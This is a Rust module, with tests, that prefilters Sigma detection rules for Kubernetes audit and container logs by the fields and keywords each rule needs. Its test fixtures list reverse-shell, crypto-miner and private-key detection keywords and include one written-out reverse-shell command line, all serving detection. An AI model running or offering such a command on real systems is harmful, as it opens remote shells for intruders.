//! Which rules of a lane an event can match at all, from a few of its
//! fields, before rsigma evaluates any rule.
//!
//! rsigma's own candidate index gates each rule on one necessary condition
//! (often `verb`, or a field's mere presence), so some 25 of the 89 audit
//! rules of the benchmark were still evaluated per event. Here a rule needs
//! every field its condition cannot be true without: present, equal to
//! one of a few values (`verb: create` and `objectRef.resource: secrets`,
//! `responseStatus.code: [401, 403]`), or starting with one
//! (`user.username|startswith: 'system:serviceaccount:'`). A rule is a
//! candidate only when all its needs hold.
//!
//! A rule whose condition needs a keyword list (`keywords: [...]`, bare
//! strings matched anywhere in the event) needs one of its keywords in some
//! string value: one search for every keyword rule of the lane at once,
//! instead of rsigma's search per rule (each lowering every value first).
//!
//! The needs only ever rule out: rsigma still decides every match. A value
//! the needs cannot judge exactly (a float, a boolean, non-ASCII text, a
//! flat key with dots) lets the rule through.

use std::cell::RefCell;
use std::collections::HashMap;

use aho_corasick::AhoCorasick;
use foldhash::fast::RandomState;
use rsigma_eval::event::Event;
use rsigma_eval::matcher::GroupMode;
use rsigma_eval::{CompiledDetection, CompiledDetectionItem, CompiledMatcher, CompiledRule};
use rsigma_parser::{ConditionExpr, Quantifier};
use serde_json::Value;

use super::adapter::{alias_name, RecordEvent};
use super::paths::{FieldPaths, Found};

/// The needs of one lane's rules, indexed by field.
pub struct Prefilter {
    /// Per rule (in the lane's order): how many of its needs must hold.
    needs: Vec<u8>,
    fields: Vec<FieldIndex>,
    keywords: Option<KeywordIndex>,
}

/// The keyword needs of a lane's rules.
struct KeywordIndex {
    /// Every needed keyword (rsigma lowers them), ASCII case aside.
    automaton: AhoCorasick,
    /// The rules that need one.
    rules: Vec<u32>,
}

/// The needs on one field slot.
#[derive(Default)]
struct FieldIndex {
    slot: usize,
    /// Rules that need the field present.
    present: Vec<u32>,
    /// Lowercase text to the rules that need it (case-insensitively).
    folded: HashMap<Box<str>, Vec<u32>, RandomState>,
    /// Text to the rules that need it exactly.
    exact: HashMap<Box<str>, Vec<u32>, RandomState>,
    /// Number to the rules that need it.
    ints: HashMap<i64, Vec<u32>, RandomState>,
    /// Prefixes (`startswith`), each with whether it is folded (lowercase,
    /// compared case-insensitively) and the rules that need it.
    prefixes: Vec<(Box<str>, bool, Vec<u32>)>,
    /// Every rule that needs values here: let through by a value the maps
    /// cannot judge.
    valued: Vec<u32>,
}

/// What a rule needs of one field.
#[derive(Clone)]
enum Need<'r> {
    Present,
    OneOf(Values<'r>),
    /// One of these lowercase keywords in some string value (on
    /// [`KEYWORDS`], not a field).
    Keywords(Vec<&'r str>),
}

/// The slot of keyword needs: the whole event, no one field.
const KEYWORDS: usize = usize::MAX;

/// Values as rsigma compares them: text folded to lowercase, exact text,
/// numbers; and the starts of text, folded or exact.
#[derive(Clone, Default)]
struct Values<'r> {
    folded: Vec<&'r str>,
    exact: Vec<&'r str>,
    ints: Vec<i64>,
    folded_prefixes: Vec<&'r str>,
    exact_prefixes: Vec<&'r str>,
}

/// A rule's needs, one per field slot at most.
type Needs<'r> = Vec<(usize, Need<'r>)>;

/// Most needs counted per rule (`needs` is a byte).
const MAX_NEEDS: usize = u8::MAX as usize;
/// Numbers above this are not exact as `f64`, which rsigma compares in.
const EXACT_INT: i64 = 1 << 53;

impl Prefilter {
    pub fn new(rules: &[CompiledRule], paths: &FieldPaths) -> Prefilter {
        let mut needs = Vec::with_capacity(rules.len());
        let mut fields: Vec<FieldIndex> = Vec::new();
        let (mut keywords, mut keyword_rules) = (Vec::new(), Vec::new());
        for (index, rule) in rules.iter().enumerate() {
            let mut rule_needs = rule_needs(rule, paths);
            rule_needs.truncate(MAX_NEEDS);
            needs.push(rule_needs.len() as u8);
            let rule = index as u32;
            for (slot, need) in rule_needs {
                let values = match need {
                    Need::Keywords(words) => {
                        keywords.extend(words);
                        keyword_rules.push(rule);
                        continue;
                    }
                    Need::Present => None,
                    Need::OneOf(values) => Some(values),
                };
                let at = match fields.iter().position(|f| f.slot == slot) {
                    Some(at) => at,
                    None => {
                        fields.push(FieldIndex {
                            slot,
                            ..FieldIndex::default()
                        });
                        fields.len() - 1
                    }
                };
                match values {
                    None => fields[at].present.push(rule),
                    Some(values) => fields[at].add(rule, values),
                }
            }
        }
        let keywords = (!keyword_rules.is_empty()).then(|| KeywordIndex {
            automaton: AhoCorasick::builder()
                .ascii_case_insensitive(true)
                .build(&keywords)
                .expect("keywords of compiled rules build an automaton"),
            rules: keyword_rules,
        });
        Prefilter {
            needs,
            fields,
            keywords,
        }
    }

    /// The indices of the rules whose needs all hold on the event,
    /// ascending. Without resolved fields every rule is a candidate.
    pub fn candidates(&self, event: &RecordEvent<'_>, out: &mut Vec<usize>) {
        out.clear();
        let Some(resolved) = event.resolved() else {
            out.extend(0..self.needs.len());
            return;
        };
        TALLY.with_borrow_mut(|tally| {
            tally.clear();
            tally.resize(self.needs.len(), (0, u32::MAX));
            for (at, field) in self.fields.iter().enumerate() {
                let values: &[&Value] = match resolved.at(field.slot) {
                    Found::None => continue,
                    Found::One(value) => std::slice::from_ref(value),
                    Found::Many(values) => values,
                };
                // A rule counts once per field, however many values hold.
                let at = at as u32;
                let mut count = |rules: &[u32]| {
                    for &rule in rules {
                        let (held, last) = &mut tally[rule as usize];
                        if *last != at {
                            *last = at;
                            *held += 1;
                        }
                    }
                };
                count(&field.present);
                for value in values {
                    field.hits(value, &mut count);
                }
            }
            if let Some(keywords) = &self.keywords {
                if keywords.found_in(event) {
                    for &rule in &keywords.rules {
                        tally[rule as usize].0 += 1;
                    }
                }
            }
            out.extend(
                self.needs
                    .iter()
                    .zip(tally.iter())
                    .enumerate()
                    .filter(|(_, (need, (held, _)))| held >= need)
                    .map(|(index, _)| index),
            );
        });
    }
}

thread_local! {
    /// [`Prefilter::candidates`]' count per rule: needs held, and the last
    /// field counted. Kept per thread: it runs for every event, on
    /// whichever thread evaluates it.
    static TALLY: RefCell<Vec<(u8, u32)>> = const { RefCell::new(Vec::new()) };
}

impl KeywordIndex {
    /// Whether a keyword may be in one of the string values rsigma's
    /// keyword matching visits. rsigma lowers a value with `to_lowercase`,
    /// which can turn non-ASCII text into ASCII (the Kelvin sign into `k`),
    /// so non-ASCII text lets the rules through.
    fn found_in(&self, event: &RecordEvent<'_>) -> bool {
        event.any_string_value(&|s| !s.is_ascii() || self.automaton.is_match(s))
    }
}

impl FieldIndex {
    fn add(&mut self, rule: u32, values: Values<'_>) {
        self.valued.push(rule);
        for text in values.folded {
            self.folded.entry(text.into()).or_default().push(rule);
        }
        for text in values.exact {
            self.exact.entry(text.into()).or_default().push(rule);
        }
        for n in values.ints {
            self.ints.entry(n).or_default().push(rule);
        }
        let folded = values.folded_prefixes.into_iter().map(|p| (p, true));
        let exact = values.exact_prefixes.into_iter().map(|p| (p, false));
        for (prefix, fold) in folded.chain(exact) {
            match self
                .prefixes
                .iter_mut()
                .find(|(p, f, _)| **p == *prefix && *f == fold)
            {
                Some((_, _, rules)) => rules.push(rule),
                None => self.prefixes.push((prefix.into(), fold, vec![rule])),
            }
        }
    }

    /// The rules whose needed values may hold on `value`, as rsigma
    /// compares: text as text (folded or not) or as the number it parses
    /// to, a number as itself or its text, an array by any member.
    fn hits(&self, value: &Value, out: &mut impl FnMut(&[u32])) {
        match value {
            Value::String(s) => {
                // rsigma folds with `to_lowercase` for a lone value and
                // ASCII-only in a group: they agree on ASCII text only.
                if !s.is_ascii() {
                    return out(&self.valued);
                }
                self.text_hits(s, out);
                if !self.ints.is_empty() {
                    if let Ok(n) = s.parse::<f64>() {
                        self.number_hits(n, out);
                    }
                }
            }
            Value::Number(n) => match n.as_i64().filter(|i| i.abs() <= EXACT_INT) {
                Some(i) => {
                    if let Some(rules) = self.ints.get(&i) {
                        out(rules);
                    }
                    self.text_hits(&i.to_string(), out);
                }
                None => out(&self.valued),
            },
            Value::Array(items) => {
                for item in items {
                    self.hits(item, out);
                }
            }
            // Equal to no text and no number.
            Value::Null | Value::Object(_) => {}
            Value::Bool(_) => out(&self.valued),
        }
    }

    fn text_hits(&self, s: &str, out: &mut impl FnMut(&[u32])) {
        if let Some(rules) = self.exact.get(s) {
            out(rules);
        }
        for (prefix, fold, rules) in &self.prefixes {
            // Lowercase ASCII text starts with a folded prefix exactly when
            // the text's first bytes equal it, case aside.
            let start = s.as_bytes().get(..prefix.len());
            let holds = match start {
                Some(start) if *fold => start.eq_ignore_ascii_case(prefix.as_bytes()),
                Some(start) => start == prefix.as_bytes(),
                None => false,
            };
            if holds {
                out(rules);
            }
        }
        if self.folded.is_empty() {
            return;
        }
        let rules = if s.bytes().any(|b| b.is_ascii_uppercase()) {
            self.folded.get(s.to_ascii_lowercase().as_str())
        } else {
            self.folded.get(s)
        };
        if let Some(rules) = rules {
            out(rules);
        }
    }

    fn number_hits(&self, n: f64, out: &mut impl FnMut(&[u32])) {
        if n.fract() != 0.0 {
            // Equals no whole number (NaN and the infinities included).
            return;
        }
        if n.abs() > EXACT_INT as f64 {
            return out(&self.valued);
        }
        if let Some(rules) = self.ints.get(&(n as i64)) {
            out(rules);
        }
    }
}

/// What the rule cannot match without (its conditions are alternatives).
fn rule_needs<'r>(rule: &'r CompiledRule, paths: &FieldPaths) -> Needs<'r> {
    either(rule.conditions.iter().map(|c| expr_needs(c, rule, paths)))
}

fn expr_needs<'r>(
    expr: &'r ConditionExpr,
    rule: &'r CompiledRule,
    paths: &FieldPaths,
) -> Needs<'r> {
    let named = |name: &str| {
        rule.detections
            .get(name)
            .map(|d| detection_needs(d, paths))
            .unwrap_or_default()
    };
    match expr {
        ConditionExpr::Identifier(name) => named(name),
        ConditionExpr::And(all) => both(all.iter().map(|e| expr_needs(e, rule, paths))),
        ConditionExpr::Or(all) => either(all.iter().map(|e| expr_needs(e, rule, paths))),
        ConditionExpr::Selector {
            quantifier,
            pattern,
        } => {
            let mut names: Vec<&String> = rule
                .detections
                .keys()
                .filter(|n| pattern.matches_detection_name(n))
                .collect();
            crate::sort::ascending(&mut names);
            let each = names.into_iter().map(|n| named(n));
            match quantifier {
                Quantifier::All => both(each),
                Quantifier::Any | Quantifier::Count(1) => either(each),
                Quantifier::Count(_) => Needs::new(),
            }
        }
        ConditionExpr::Not(_) => Needs::new(),
    }
}

fn detection_needs<'r>(detection: &'r CompiledDetection, paths: &FieldPaths) -> Needs<'r> {
    match detection {
        CompiledDetection::AllOf(items) => both(items.iter().map(|i| item_needs(i, paths))),
        CompiledDetection::And(all) => both(all.iter().map(|d| detection_needs(d, paths))),
        CompiledDetection::AnyOf(all) => either(all.iter().map(|d| detection_needs(d, paths))),
        CompiledDetection::Keywords(matcher) => keywords_of(matcher)
            .map(|words| vec![(KEYWORDS, Need::Keywords(words))])
            .unwrap_or_default(),
        // An array quantifier may hold on an absent array.
        CompiledDetection::ArrayMatch { .. } | CompiledDetection::Conditional { .. } => {
            Needs::new()
        }
    }
}

/// An item on an absent field fails unless its matcher is `Null` (or an
/// absence check); see rsigma's `eval_detection_item`.
fn item_needs<'r>(item: &'r CompiledDetectionItem, paths: &FieldPaths) -> Needs<'r> {
    let Some(field) = item.field.as_deref() else {
        return Needs::new();
    };
    // An absent `spoor.*` path falls back to a normalized alias the slot
    // does not hold.
    if alias_name(field).is_some() {
        return Needs::new();
    }
    let Some(slot) = paths.slot(field) else {
        return Needs::new();
    };
    let need = match item.exists {
        Some(true) => Need::Present,
        Some(false) => return Needs::new(),
        None => match &item.matcher {
            CompiledMatcher::Null | CompiledMatcher::Exists(_) => return Needs::new(),
            matcher => values_of(matcher).map_or(Need::Present, Need::OneOf),
        },
    };
    let mut needs = vec![(slot, need)];
    // A nested path needs its top-level key, which alternatives on
    // different paths below it may share (`requestObject`).
    if let Some(top) = field.split_once('.').and_then(|(top, _)| paths.slot(top)) {
        needs.push((top, Need::Present));
    }
    needs
}

/// The lowercase keywords of a keyword list, when it matches only a value
/// that contains one, case aside (no wildcards, no numbers).
fn keywords_of(matcher: &CompiledMatcher) -> Option<Vec<&str>> {
    match matcher {
        CompiledMatcher::Contains {
            value,
            case_insensitive: true,
        } => Some(vec![value]),
        CompiledMatcher::AhoCorasickSet {
            needles,
            case_insensitive: true,
            ..
        } => Some(needles.iter().map(String::as_str).collect()),
        CompiledMatcher::AnyOf(children)
        | CompiledMatcher::CaseInsensitiveGroup {
            children,
            mode: GroupMode::Any,
        } => children.iter().try_fold(Vec::new(), |mut all, child| {
            all.extend(keywords_of(child)?);
            Some(all)
        }),
        _ => None,
    }
}

/// The values a matcher accepts, when it accepts nothing else.
fn values_of(matcher: &CompiledMatcher) -> Option<Values<'_>> {
    let mut values = Values::default();
    match matcher {
        CompiledMatcher::Exact {
            value,
            case_insensitive,
        } => match case_insensitive {
            true => values.folded.push(value),
            false => values.exact.push(value),
        },
        CompiledMatcher::NumericEq(n) if n.fract() == 0.0 && n.abs() <= EXACT_INT as f64 => {
            values.ints.push(*n as i64)
        }
        CompiledMatcher::StartsWith {
            value,
            case_insensitive,
        } => match case_insensitive {
            true => values.folded_prefixes.push(value),
            false => values.exact_prefixes.push(value),
        },
        CompiledMatcher::AnyOf(children)
        | CompiledMatcher::CaseInsensitiveGroup {
            children,
            mode: GroupMode::Any,
        } => {
            // A group lowers the value itself: only its folded text counts.
            let grouped = matches!(matcher, CompiledMatcher::CaseInsensitiveGroup { .. });
            for child in children {
                let v = values_of(child)?;
                if grouped
                    && !(v.exact.is_empty() && v.ints.is_empty() && v.exact_prefixes.is_empty())
                {
                    return None;
                }
                values.union(v);
            }
        }
        _ => return None,
    }
    Some(values)
}

impl<'r> Values<'r> {
    fn union(&mut self, other: Values<'r>) {
        self.folded.extend(other.folded);
        self.exact.extend(other.exact);
        self.ints.extend(other.ints);
        self.folded_prefixes.extend(other.folded_prefixes);
        self.exact_prefixes.extend(other.exact_prefixes);
    }
}

/// Needs of a conjunction: every operand's, the values where one operand
/// names them and another only presence.
fn both<'r>(all: impl Iterator<Item = Needs<'r>>) -> Needs<'r> {
    let mut out = Needs::new();
    for needs in all {
        for (slot, need) in needs {
            match out.iter_mut().find(|(s, _)| *s == slot) {
                None => out.push((slot, need)),
                Some((_, have @ Need::Present)) => *have = need,
                Some(_) => {}
            }
        }
    }
    out
}

/// Needs of a disjunction: on the fields every alternative needs, any of
/// their values (presence if one needs only presence).
fn either<'r>(mut all: impl Iterator<Item = Needs<'r>>) -> Needs<'r> {
    let Some(mut out) = all.next() else {
        return Needs::new();
    };
    for needs in all {
        out.retain_mut(|(slot, need)| {
            let Some((_, other)) = needs.iter().find(|(s, _)| s == slot) else {
                return false;
            };
            match (&mut *need, other) {
                (Need::OneOf(mine), Need::OneOf(theirs)) => mine.union(theirs.clone()),
                (Need::Keywords(mine), Need::Keywords(theirs)) => mine.extend(theirs),
                (need, _) => *need = Need::Present,
            }
            true
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::super::adapter::tests::record;
    use super::super::paths::tests::compiled;
    use super::*;
    use serde_json::json;

    fn paths_of(rules: &[CompiledRule]) -> FieldPaths {
        FieldPaths::of_detections(rules.iter().flat_map(|r| r.detections.values()))
    }

    const RULES: &str = r#"
title: 0 secret read
logsource: {product: kubernetes, service: audit}
detection:
    selection:
        verb: [get, list]
        objectRef.resource: secrets
    condition: selection
---
title: 1 exec, unless a controller
logsource: {product: kubernetes, service: audit}
detection:
    selection:
        verb: create
        objectRef.subresource: exec
    controllers:
        user.username|startswith: 'system:'
    condition: selection and not controllers
---
title: 2 either, so no need
logsource: {product: kubernetes, service: audit}
detection:
    a:
        verb: delete
    b:
        objectRef.resource: nodes
    condition: a or b
---
title: 3 case-sensitive name
logsource: {product: kubernetes, service: audit}
detection:
    selection:
        objectRef.name|cased: Admin
    condition: selection
---
title: 4 alias
logsource: {product: kubernetes, service: audit}
detection:
    selection:
        spoor.user: alice
    condition: selection
---
title: 5 refused
logsource: {product: kubernetes, service: audit}
detection:
    selection:
        responseStatus.code: [401, 403]
    condition: selection
---
title: 6 privileged, in either list
logsource: {product: kubernetes, service: audit}
detection:
    sel_containers:
        requestObject.spec.containers.securityContext.privileged: true
    sel_init:
        requestObject.spec.initContainers.securityContext.privileged: true
    condition: 1 of sel_*
---
title: 7 a service account's script
logsource: {product: kubernetes, service: audit}
detection:
    selection:
        user.username|startswith: 'system:serviceaccount:'
        userAgent|startswith: [kubectl/, curl/]
    condition: selection
---
title: 8 a cased prefix
logsource: {product: kubernetes, service: audit}
detection:
    selection:
        objectRef.namespace|startswith|cased: kube-
    condition: selection
"#;

    fn candidates(rules: &[CompiledRule], fields: Value) -> Vec<usize> {
        let paths = paths_of(rules);
        let prefilter = Prefilter::new(rules, &paths);
        let record = record(fields);
        let mut out = Vec::new();
        prefilter.candidates(&RecordEvent::with_paths(&record, &paths), &mut out);
        out
    }

    #[test]
    fn a_rule_needs_what_its_condition_cannot_hold_without() {
        let rules = compiled(RULES);
        let paths = paths_of(&rules);
        let described: Vec<Vec<String>> = rules
            .iter()
            .map(|rule| {
                let mut needs: Vec<String> = rule_needs(rule, &paths)
                    .into_iter()
                    .map(|(slot, need)| {
                        let path = || paths_named(&paths, slot).0;
                        match need {
                            Need::Keywords(words) => format!("keywords {words:?}"),
                            Need::Present => format!("{} present", path()),
                            Need::OneOf(v)
                                if v.folded_prefixes.is_empty() && v.exact_prefixes.is_empty() =>
                            {
                                format!("{} in {:?} {:?} {:?}", path(), v.folded, v.exact, v.ints)
                            }
                            Need::OneOf(v) => {
                                format!(
                                    "{} starts {:?} {:?}",
                                    path(),
                                    v.folded_prefixes,
                                    v.exact_prefixes
                                )
                            }
                        }
                    })
                    .collect();
                needs.sort();
                needs
            })
            .collect();
        assert_eq!(
            described,
            [
                vec![
                    r#"objectRef present"#,
                    r#"objectRef.resource in ["secrets"] [] []"#,
                    r#"verb in ["get", "list"] [] []"#,
                ],
                vec![
                    r#"objectRef present"#,
                    r#"objectRef.subresource in ["exec"] [] []"#,
                    r#"verb in ["create"] [] []"#,
                ],
                vec![],
                vec![
                    r#"objectRef present"#,
                    r#"objectRef.name in [] ["Admin"] []"#
                ],
                vec![],
                vec![
                    r#"responseStatus present"#,
                    r#"responseStatus.code in [] [] [401, 403]"#,
                ],
                vec![r#"requestObject present"#],
                vec![
                    r#"user present"#,
                    r#"user.username starts ["system:serviceaccount:"] []"#,
                    r#"userAgent starts ["kubectl/", "curl/"] []"#,
                ],
                vec![
                    r#"objectRef present"#,
                    r#"objectRef.namespace starts [] ["kube-"]"#,
                ],
            ]
        );
    }

    /// The path of a slot, for the test's descriptions.
    fn paths_named(paths: &FieldPaths, slot: usize) -> (String, usize) {
        for path in [
            "verb",
            "objectRef",
            "objectRef.resource",
            "objectRef.subresource",
            "objectRef.name",
            "responseStatus",
            "responseStatus.code",
            "requestObject",
            "user",
            "user.username",
            "userAgent",
            "objectRef.namespace",
        ] {
            if paths.slot(path) == Some(slot) {
                return (path.to_string(), slot);
            }
        }
        panic!("slot {slot} has no path the test knows");
    }

    #[test]
    fn a_rule_is_a_candidate_only_when_all_its_needs_hold() {
        let rules = compiled(RULES);
        let get_secret = json!({"verb": "get", "objectRef": {"resource": "secrets"}});
        assert_eq!(candidates(&rules, get_secret), [0, 2, 4]);
        let get_pod = json!({"verb": "GET", "objectRef": {"resource": "pods"}});
        assert_eq!(candidates(&rules, get_pod), [2, 4]);
        let exec = json!({"verb": "Create", "objectRef": {"subresource": "exec", "name": "Admin"}});
        assert_eq!(candidates(&rules, exec), [1, 2, 3, 4]);
        let other_case = json!({"objectRef": {"name": "admin"}});
        assert_eq!(candidates(&rules, other_case), [2, 4]);
        let refused = json!({"responseStatus": {"code": 403}});
        assert_eq!(candidates(&rules, refused), [2, 4, 5]);
        let as_text = json!({"responseStatus": {"code": "401"}});
        assert_eq!(candidates(&rules, as_text), [2, 4, 5]);
        let allowed = json!({"responseStatus": {"code": 200}});
        assert_eq!(candidates(&rules, allowed), [2, 4]);
        let with_body = json!({"requestObject": {"kind": "Pod"}});
        assert_eq!(candidates(&rules, with_body), [2, 4, 6]);
        let username = |u: &str, agent: &str| json!({"user": {"username": u}, "userAgent": agent});
        let sa_script = username("system:serviceaccount:ci:deploy", "KUBECTL/v1.29");
        assert_eq!(
            candidates(&rules, sa_script),
            [2, 4, 7],
            "folded prefix, case aside"
        );
        let sa_controller = username("system:serviceaccount:ci:deploy", "kube-controller/v1");
        assert_eq!(candidates(&rules, sa_controller), [2, 4]);
        let person = username("alice", "kubectl/v1.29");
        assert_eq!(candidates(&rules, person), [2, 4]);
        let short = username("system:", "curl/");
        assert_eq!(candidates(&rules, short), [2, 4], "shorter than the prefix");
        let kube = json!({"objectRef": {"namespace": "kube-system"}});
        assert_eq!(candidates(&rules, kube), [2, 4, 8]);
        let other_case = json!({"objectRef": {"namespace": "Kube-system"}});
        assert_eq!(candidates(&rules, other_case), [2, 4], "cased prefix");
    }

    #[test]
    fn values_the_needs_cannot_judge_let_rules_through() {
        let rules = compiled(RULES);
        // A float or a boolean is compared as its text; non-ASCII folds
        // differently.
        let odd = json!({"verb": true, "objectRef": {"resource": "SECRETſ"}});
        assert_eq!(candidates(&rules, odd), [0, 2, 4]);
        let float = json!({"responseStatus": {"code": 403.0}});
        assert_eq!(candidates(&rules, float), [2, 4, 5]);
        // An array matches by any member, counted once.
        let listed = json!({"verb": ["list", "get"], "objectRef": [{"resource": "secrets"}]});
        assert_eq!(candidates(&rules, listed), [0, 2, 4]);
        let paths = paths_of(&rules);
        let mut out = Vec::new();
        let record = record(json!({"verb": "watch"}));
        Prefilter::new(&rules, &paths).candidates(&RecordEvent::new(&record, 0), &mut out);
        assert_eq!(out, [0, 1, 2, 3, 4, 5, 6, 7, 8], "unresolved: all");
        // Non-ASCII text folds differently: it lets a prefix rule through.
        let accented = json!({"user": {"username": "é"}, "userAgent": "curl/8"});
        assert_eq!(candidates(&rules, accented), [2, 4, 7]);
    }

    const KEYWORD_RULES: &str = r#"
title: 0 two keywords (a case-insensitive group in rsigma)
logsource: {product: kubernetes, service: container}
detection:
    keywords: ['/dev/tcp/', 'Mkfifo /tmp/']
    condition: keywords
---
title: 1 eight keywords (an Aho-Corasick set in rsigma), unless a filter
logsource: {product: kubernetes, service: container}
detection:
    keywords: [stratum+tcp://, XMRig/, cryptonight, moneroocean, supportxmr, nanopool.org, c3pool, minexmr]
    filter:
        stream: stderr
    condition: keywords and not filter
---
title: 2 one keyword
logsource: {product: kubernetes, service: container}
detection:
    keywords: 'BEGIN RSA PRIVATE KEY'
    condition: keywords
---
title: 3 a wildcard, so no need
logsource: {product: kubernetes, service: container}
detection:
    keywords: ['nc*-e /bin/']
    condition: keywords
---
title: 4 keywords or a field, so no need
logsource: {product: kubernetes, service: container}
detection:
    keywords: ['/dev/tcp/']
    selection:
        stream: stdout
    condition: keywords or selection
"#;

    #[test]
    fn a_keyword_rule_needs_one_of_its_keywords_in_some_value() {
        let rules = compiled(KEYWORD_RULES);
        let paths = paths_of(&rules);
        let described: Vec<Vec<String>> = rules
            .iter()
            .map(|rule| {
                let needs = rule_needs(rule, &paths).into_iter();
                needs
                    .filter_map(|(_, need)| match need {
                        Need::Keywords(words) => Some(words.join(" | ")),
                        _ => None,
                    })
                    .collect()
            })
            .collect();
        assert_eq!(
            described,
            [
                vec!["/dev/tcp/ | mkfifo /tmp/"],
                vec!["stratum+tcp:// | xmrig/ | cryptonight | moneroocean | supportxmr | nanopool.org | c3pool | minexmr"],
                vec!["begin rsa private key"],
                vec![],
                vec![],
            ]
        );
        let line =
            |log: &str| json!({"stream": "stdout", "log": log, "kubernetes": {"pod": "web"}});
        assert_eq!(candidates(&rules, line("GET /healthz 200")), [3, 4]);
        assert_eq!(
            candidates(&rules, line("bash -i >& /DEV/TCP/10.0.0.9/4444 0>&1")),
            [0, 1, 2, 3, 4],
            "any keyword, case aside, lets every keyword rule through"
        );
        let nested = json!({"log": "ok", "env": [{"value": "xmrig/6.21 started"}]});
        assert_eq!(candidates(&rules, nested), [0, 1, 2, 3, 4], "in an array");
        // rsigma lowers non-ASCII text with `to_lowercase`: the Kelvin sign
        // becomes `k`, so this is "BEGIN RSA PRIVATE KEY" to it.
        let kelvin = line("-----BEGIN RSA PRIVATE \u{212a}EY-----");
        assert_eq!(candidates(&rules, kelvin), [0, 1, 2, 3, 4]);
        let kelvin = record(line("-----BEGIN RSA PRIVATE \u{212a}EY-----"));
        let event = RecordEvent::new(&kelvin, 0);
        let matched: Vec<&str> = rules
            .iter()
            .filter(|rule| rsigma_eval::evaluate_rule(rule, &event).is_some())
            .map(|rule| &rule.title[..1])
            .collect();
        assert_eq!(matched, ["2", "4"], "the keyword, and the stream");
    }
}
